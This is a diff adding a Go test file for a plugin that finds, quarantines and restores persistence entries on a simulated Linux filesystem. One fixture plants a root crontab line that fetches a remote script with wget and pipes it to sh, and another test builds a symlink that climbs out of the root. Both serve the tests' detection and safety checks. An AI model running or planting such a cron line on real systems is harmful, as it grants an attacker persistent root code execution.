@@ -1,0 +1,97 @@
+package persistplugin
+
+import (
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/abusekit/abusekit/playbook/plugintest"
+	"github.com/abusekit/abusekit/plugins/persist"
+	"github.com/abusekit/abusekit/plugins/persist/hosttest"
+)
+
+func TestFindCleanRestoreActions(t *testing.T) {
+	ctx := context.Background()
+	dir := t.TempDir()
+	tree := hosttest.Debian12().Append("/etc/crontab", "* * * * * root wget -q -O - http://203.0.113.7/y.sh | sh\n", hosttest.InfectionTime)
+	if err := hosttest.Write(dir, tree); err != nil {
+		t.Fatal(err)
+	}
+	acts := NewPlugin()
+
+	found, err := plugintest.Apply[FindOutput](ctx, acts["find"], FindInput{Root: dir})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(found.Findings) != 1 || found.Findings[0].Path != "/etc/crontab" || found.Findings[0].Severity != persist.Critical {
+		t.Fatalf("find: %+v", found)
+	}
+	if found.Counts["info"] == 0 {
+		t.Errorf("counts: %v", found.Counts)
+	}
+
+	plan, err := plugintest.Plan(ctx, acts["clean"], CleanInput{FindInput: FindInput{Root: dir}, QuarantineDir: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(plan.Changes) != 1 || plan.Changes[0].Target != "/etc/crontab" || !strings.Contains(plan.Changes[0].Detail, "line 24") {
+		t.Fatalf("clean plan: %+v", plan)
+	}
+	before, _ := os.ReadFile(filepath.Join(dir, "etc/crontab"))
+	if strings.Count(string(before), "203.0.113.7") != 1 {
+		t.Fatal("plan changed the root")
+	}
+
+	out, err := plugintest.Apply[CleanOutput](ctx, acts["clean"], CleanInput{FindInput: FindInput{Root: dir}, QuarantineDir: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if out.ManifestPath == "" {
+		t.Fatalf("clean: %+v", out)
+	}
+	if b, _ := os.ReadFile(filepath.Join(dir, "etc/crontab")); strings.Contains(string(b), "203.0.113.7") {
+		t.Fatal("clean did not remove the line")
+	}
+
+	rp, err := plugintest.Plan(ctx, acts["restore"], RestoreInput{Manifest: out.ManifestPath})
+	if err != nil || len(rp.Changes) != 1 {
+		t.Fatalf("restore plan: %+v, %v", rp, err)
+	}
+	res, err := plugintest.Apply[RestoreOutput](ctx, acts["restore"], RestoreInput{Manifest: out.ManifestPath})
+	if err != nil || len(res.Restored) != 1 {
+		t.Fatalf("restore: %+v, %v", res, err)
+	}
+	if b, _ := os.ReadFile(filepath.Join(dir, "etc/crontab")); string(b) != string(before) {
+		t.Fatal("restore is not byte-identical")
+	}
+}
+
+// Sentinels keep their identity across the process boundary.
+func TestErrorsCrossTheBoundary(t *testing.T) {
+	ctx := context.Background()
+	_, err := plugintest.Apply[RestoreOutput](ctx, NewPlugin()["restore"], RestoreInput{Manifest: filepath.Join(t.TempDir(), "missing.json")})
+	if !errors.Is(err, persist.ErrBadManifest) {
+		t.Errorf("missing manifest: %v", err)
+	}
+	dir := t.TempDir()
+	if err := hosttest.Write(dir, hosttest.Tree{{Path: "/etc/passwd", Data: "root:x:0:0::/root:/bin/bash\n"}, {Path: "/etc/escape", Link: "../../../../../../.."}}); err != nil {
+		t.Fatal(err)
+	}
+	_, err = plugintest.Apply[FindOutput](ctx, NewPlugin()["find"], FindInput{Root: dir, Min: "extreme"})
+	if err == nil {
+		t.Error("bad severity accepted")
+	}
+	// A manifest naming a path under a link that climbs out of the root.
+	q := t.TempDir()
+	m := `{"version":1,"root":"` + dir + `","entries":[{"seq":1,"op":"unlink","path":"/etc/escape/x","type":"symlink","link_target":"y"}]}`
+	if err := os.WriteFile(filepath.Join(q, persist.ManifestName), []byte(m), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	_, err = plugintest.Apply[RestoreOutput](ctx, NewPlugin()["restore"], RestoreInput{Manifest: filepath.Join(q, persist.ManifestName)})
+	if !errors.Is(err, persist.ErrSymlinkEscape) {
+		t.Errorf("escape: %v", err)
+	}
+}
